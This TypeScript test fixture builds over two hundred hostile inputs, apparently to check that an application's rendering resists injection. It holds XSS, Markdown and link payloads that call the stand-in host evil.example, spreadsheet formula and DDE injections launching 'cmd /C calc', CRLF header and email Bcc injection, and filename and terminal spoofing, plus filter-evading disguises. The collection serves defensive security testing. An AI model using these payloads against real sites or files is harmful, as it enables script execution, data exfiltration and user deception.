/** Where hostile words would call, and what they would set on the page. */
export const OUTWARD = 'https://evil.example'
const HIT = "window.hit='N';fetch('https://evil.example/N')"

/** What runs in some page, or draws something into it, if it is ever taken for HTML, Markdown, a link or a formula. */
const ATTACKS = [
  `<script>${HIT}</script>`,
  `<img src=x onerror="${HIT}">`,
  `<img src="https://evil.example/N.png">`,
  `<svg onload="${HIT}"><rect/></svg>`,
  `<svg><script href="data:text/javascript,${HIT}"/></svg>`,
  `<math><mi xlink:href="javascript:${HIT}">x</mi></math>`,
  `<iframe srcdoc="<script>${HIT}</script>"></iframe>`,
  `<iframe src="https://evil.example/N"></iframe>`,
  `<object data="https://evil.example/N"></object>`,
  `<embed src="https://evil.example/N">`,
  `<link rel=stylesheet href="https://evil.example/N.css">`,
  `<style>@import url(https://evil.example/N);*{display:none}</style>`,
  `<base href="https://evil.example/N/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/N">`,
  `<form action="https://evil.example/N"><button autofocus onfocus="${HIT}">Go</button></form>`,
  `<details open ontoggle="${HIT}">x</details>`,
  `<video src=x onerror="${HIT}"></video>`,
  `<a href="javascript:${HIT}">press</a>`,
  `<template><img src=x onerror="${HIT}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  `</textarea><script>${HIT}</script>`,
  `</title><script>${HIT}</script>`,
  `"><img src=x onerror="${HIT}">`,
  `' onmouseover='${HIT}' x='`,
  `\`\${${HIT}}\``,
  `{{constructor.constructor("${HIT}")()}}`,
  `[press](javascript:${HIT})`,
  `![picture](https://evil.example/N.png)`,
  `<https://evil.example/N>`,
  `[x]: https://evil.example/N "title"`,
  `javascript:${HIT}`,
  `data:text/html,<script>${HIT}</script>`,
  `=HYPERLINK("https://evil.example/N","press")`,
  `=WEBSERVICE("https://evil.example/N")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `&lt;script&gt;${HIT}&lt;/script&gt;`,
  `%3Cscript%3E${HIT}%3C/script%3E`,
  `a\r\nX-Injected: N\r\n\r\n<script>${HIT}</script>`,
  `\u202Egpj.exe`,
  `photo \u2067\u2068gpj.exe`,
  `\u001B]0;N\u0007\u001B[2J\u001B[1;31mroot#`,
  `<!channel> <@U1N> <#C1N> <https://evil.example/N|Open in Leadlight>`,
  `x\nBcc: N@evil.example\nContent-Type: text/html\n\n<script>${HIT}</script>`,
  `=cmd|'/C calc'!A0;=DDE("cmd";"/C calc";"N")`,
  `\uFF1D1+1\n=1+1,"=1+1";"=1+1"`,
] as const

/** The same attack as it would be dressed to get past somebody who looks for it. */
const DISGUISES: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `Which invoicing software do you use? ${attack}`,
  (attack) => attack.replaceAll('script', 'sCrIpT').replaceAll('onerror', 'ONERROR'),
  (attack) => `<!--x-->${attack}<!--`,
  (attack) => `**${attack}**\n\n\`\`\`\n${attack}\n\`\`\``,
]

/** More than two hundred hostile texts; the number in each says which one it was that got through. */
export const HOSTILE_WORDS: readonly string[] = DISGUISES.flatMap((disguise, row) =>
  ATTACKS.map((attack, at) => disguise(attack.replaceAll('N', String(row * ATTACKS.length + at)))),
)
